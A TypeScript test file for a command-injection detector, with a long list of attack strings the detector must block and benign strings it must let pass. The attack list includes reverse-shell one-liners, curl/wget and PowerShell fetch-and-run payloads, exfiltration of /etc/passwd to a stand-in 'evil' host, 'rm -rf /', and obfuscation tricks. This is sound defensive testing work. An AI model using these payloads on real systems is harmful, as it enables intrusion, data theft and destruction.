// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks hold placeholders of shells and templates
import { expect, test } from 'vitest'
import type { FieldInfo, Severity, Where } from '../../types.ts'
import { commandInjection } from './detector.ts'

interface Found {
  severity: Severity
  start: number
  end: number
  paranoia: number
}

function detect(text: string, where: Where = 'query'): Found[] {
  const found: Found[] = []
  const field: FieldInfo = { where, name: 'q', isName: false }
  commandInjection.detect(text, field, (severity, start, end, _message, paranoia = 1) => {
    found.push({ severity, start, end, paranoia })
  })
  return found
}

const isBlocked = (text: string, where?: Where) =>
  detect(text, where).some(({ severity, paranoia }) => severity === 'critical' && paranoia === 1)

const attacks = [
  ';id',
  '; id',
  '|id',
  '| whoami',
  '|| whoami',
  '&& whoami',
  '& whoami &',
  ';cat /etc/passwd',
  '; cat /etc/passwd #',
  '127.0.0.1;ls -la',
  '127.0.0.1 && cat /etc/passwd',
  '8.8.8.8|whoami',
  '8.8.8.8;id',
  '$(id)',
  '$(whoami)',
  'x$(sleep 5)',
  '`id`',
  '`sleep 5`',
  'a`whoami`',
  ';wget http://evil/x.sh',
  ';curl http://evil|sh',
  "'; ping -c 3 127.0.0.1; '",
  '"; ls; "',
  "');system('id');//",
  "c'a't /etc/passwd",
  ";c''at /etc/passwd",
  ';wh$@oami',
  ';w\\ho\\am\\i',
  ';cat$IFS/etc/passwd',
  'cat${IFS}/etc/passwd',
  ';/???/c?t /???/p??s??',
  '/???/??t /???/p??s??',
  '{cat,/etc/passwd}',
  ';{ls,-la,/}',
  '${PATH:0:1}bin',
  '<(cat /etc/passwd)',
  ';nc -e /bin/sh 1.2.3.4 4444',
  'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1',
  ";bash -c 'id'",
  ";python -c 'import os'",
  ";perl -e 'print 1'",
  '|/usr/bin/id|',
  'cat /etc/passwd',
  'wget http://evil/x -O /tmp/x',
  'curl -d @/etc/passwd http://evil',
  '& dir C:\\',
  '| type C:\\windows\\win.ini',
  '&& net user hacker pass /add',
  '& ping -n 30 127.0.0.1 &',
  'w^h^o^a^m^i',
  ';w^hoami',
  '%PROGRAMFILES:~10,1%',
  ';sleep 10',
  ';sleep${IFS}10',
  '| sleep 5',
  'x|powershell -enc AAAA',
  'x;rm -rf /',
  ';uname -a',
  ';/bin/bash',
  'nohup wget http://x/y',
  ';sudo cat /etc/shadow',
  'sudo id; whoami',
  ';env',
  ';$(echo aWQ=|base64 -d)',
  ';busybox nc 1.2.3.4 4444 -e sh',
  "invoke-expression(new-object net.webclient).downloadstring('http://x')",
  "IEX(New-Object Net.WebClient).DownloadString('http://x')",
  "system('cat /etc/passwd')",
  'os.system("id")',
  "child_process.exec('ls -la')",
  ';ca\\t /et\\c/passwd',
  ';"cat" /etc/passwd',
  "'&&cat /etc/passwd&&'",
  'a;id',
  'a|id',
  '\nid',
  'a\n/usr/bin/id\n',
]

const harmless = [
  'Tom & Jerry; cat food',
  'AT&T | Verizon',
  '$(5)',
  '$(this)',
  '$(document).ready(x)',
  "$('id')",
  "$('#id').find('x')",
  '(X11; Linux x86_64)',
  'Use `id` and `cat` here',
  'Run `ls -la` in the directory',
  'query($id: ID!) { user(id: $id) { id name } }',
  '{ user { id } }',
  '{id,name}',
  '{ id, name, type }',
  'name;type;date',
  'name|type|date',
  'a; find more details; sort by time',
  'cats & dogs & more',
  'rock & roll',
  'R&D',
  'Q&A',
  '&copy; 2024',
  '&lt;b&gt;',
  'a=1&id=2&sort=name&type=x',
  '?x=1&host=example.com',
  'text/html; charset=utf-8',
  'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)',
  'session=abc; id=123; path=/',
  'Java; Python; Ruby',
  'Ruby & Perl',
  'Java|Python|PHP',
  'Bread; butter; echo chamber',
  'Kill Bill; time of day',
  'I like python; set up the env',
  '| id | name |',
  '|---|---|',
  'yes | no | cancel',
  'x || y',
  'a && b',
  'if (a && find(x)) { kill(y) }',
  'hello > world',
  '1 < 2; type of thing',
  'cat',
  'cat food',
  'ping',
  'Find the time',
  'sort by date',
  'last name',
  'date of birth',
  'top 10',
  'who is it',
  'more info',
  'host name',
  'set the table',
  'echo park',
  'make it so',
  'test',
  'users',
  'mail',
  'type: user',
  'Price is $(100) or $5',
  '${name}',
  '${user.id}',
  '${HOME}',
  'curly {a,b}',
  "Don't; won't",
  "O'Brien & sons",
  '"quoted" & \'single\'',
  'C:\\Users\\bob',
  '/usr/share/doc',
  '/api/v1/users?id=3',
  '2024-01-01; 10:00',
  'sleep well; head east',
  'foo; ls are fun',
  'a; rm is short',
  '1 | 2 | 3',
  'Windows; cmd key',
  'Linux | top of page',
  "find 'x' | replace",
  'Save 50% & more',
  'https://a.b/c?x=1&cat=2',
  'What? Cat? /?',
  '/* comment */',
  '/[a-z]+/',
  '[a-z]*',
  '*.txt',
  "what's this?",
  'user@host:~/x',
  'application/json; q=0.9',
  'en-US,en;q=0.5',
  'base64,aGVsbG8=',
  'data:text/plain;base64,aGVsbG8=',
  'npm install && npm test',
  'Line one',
  'x = y ? a : b',
  'Mon; Tue; Wed',
  'kill -9 is a signal',
]

test.each(attacks)('finds %j', (text) => {
  expect(isBlocked(text)).toBe(true)
})

test.each(harmless)('lets pass %j', (text) => {
  expect(isBlocked(text)).toBe(false)
})

test('every attack holds a byte or a cue that wakes the detector', () => {
  for (const text of attacks) {
    const lower = text.toLowerCase()
    const woken =
      [...commandInjection.bytes].some((byte) => text.includes(byte)) ||
      commandInjection.cues.some((cue) => lower.includes(cue))
    expect(woken, text).toBe(true)
  }
})

test('ordinary values hold no byte that wakes the detector', () => {
  const ordinary = [
    'hello world',
    '3fa85f64-5717-4562-b3fc-2c963f66afa6',
    '2026-11-21T22:00:00Z',
    'ana.lopez@example.org',
    'https://example.com/a/b',
    '-12.5',
  ]
  for (const text of ordinary) expect([...commandInjection.bytes].some((byte) => text.includes(byte))).toBe(false)
})

test('positions lie inside the text', () => {
  for (const text of [...attacks, ...harmless]) {
    for (const { start, end } of detect(text)) {
      expect(start).toBeGreaterThanOrEqual(0)
      expect(end).toBeGreaterThanOrEqual(start)
      expect(end).toBeLessThanOrEqual(text.length)
    }
  }
})

test('ends cut off anywhere never make it throw', () => {
  for (const text of attacks)
    for (let i = 0; i <= text.length; i++) detect(text.slice(i)).concat(detect(text.slice(0, i)))
})

// A quadratic pass over a megabyte would take minutes: the runner's time limit is the assertion.
test.each([';', '$(', '`', '|cat ', '&', '{a,', '${IFS', "$('", ';id ', '`id ', '\\', '/?', '[a', '%a:', '<(', '\n'])(
  'a megabyte of %j ends',
  (piece) => {
    detect(piece.repeat(Math.floor(2 ** 20 / piece.length)))
  },
)
